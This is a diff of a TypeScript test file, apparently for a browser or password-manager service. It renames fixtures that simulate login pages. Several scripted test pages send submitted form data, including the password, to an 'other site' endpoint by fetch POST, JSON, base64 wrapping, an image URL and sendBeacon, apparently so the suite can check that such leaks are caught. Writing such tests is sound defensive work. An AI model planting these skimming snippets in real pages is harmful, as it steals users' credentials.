@@ -1,7 +1,14 @@
 import { afterAll, describe, expect } from 'vitest';
 import { it } from '../browser/shared-service.ts';
 import { useStore } from '../store/databases.ts';
-import { AWAY, FORM, PASSWORD_IN_FORM, startEntering, type Entering, type Handler } from './entering.ts';
+import {
+  OTHER_SITE,
+  FORM,
+  PASSWORD_IN_FORM,
+  startLoginOnSite,
+  type LoginOnSite,
+  type Handler,
+} from './login-on-site.ts';
 
 const leads =
   (status: number, to: (host: string) => string): Handler =>
@@ -28,22 +35,22 @@ const PAGES: Record<string, string | Handler> = {
   '/307': leads(307, away),
   '/308': leads(308, away),
   '/307-home': leads(307, () => '/in'),
-  '/fetches': SCRIPTED('', `${AWAY}/taken`),
-  '/recorded': SCRIPTED(`fetch('${AWAY}/taken', { method: 'POST', body }).catch(() => undefined)`),
+  '/fetches': SCRIPTED('', `${OTHER_SITE}/taken`),
+  '/recorded': SCRIPTED(`fetch('${OTHER_SITE}/taken', { method: 'POST', body }).catch(() => undefined)`),
   '/recorded-in-json': SCRIPTED(
-    `fetch('${AWAY}/taken', { method: 'POST', body: JSON.stringify(Object.fromEntries(body)) }).catch(() => undefined)`,
+    `fetch('${OTHER_SITE}/taken', { method: 'POST', body: JSON.stringify(Object.fromEntries(body)) }).catch(() => undefined)`,
   ),
   '/recorded-in-base64': SCRIPTED(
-    `fetch('${AWAY}/taken', { method: 'POST', body: btoa('x' + body.get('pass') + 'yz') }).catch(() => undefined)`,
+    `fetch('${OTHER_SITE}/taken', { method: 'POST', body: btoa('x' + body.get('pass') + 'yz') }).catch(() => undefined)`,
   ),
-  '/recorded-by-address': SCRIPTED(`new Image().src = '${AWAY}/taken?' + body`),
-  '/recorded-by-beacon': SCRIPTED(`navigator.sendBeacon('${AWAY}/taken', body.toString())`),
+  '/recorded-by-address': SCRIPTED(`new Image().src = '${OTHER_SITE}/taken?' + body`),
+  '/recorded-by-beacon': SCRIPTED(`navigator.sendBeacon('${OTHER_SITE}/taken', body.toString())`),
 };
 
 const stores = useStore();
-let on: Entering;
+let on: LoginOnSite;
 it.beforeAll(async ({ service }) => {
-  on = await startEntering(service, stores().store, PAGES);
+  on = await startLoginOnSite(service, stores().store, PAGES);
 });
 afterAll(() => on.close());
 
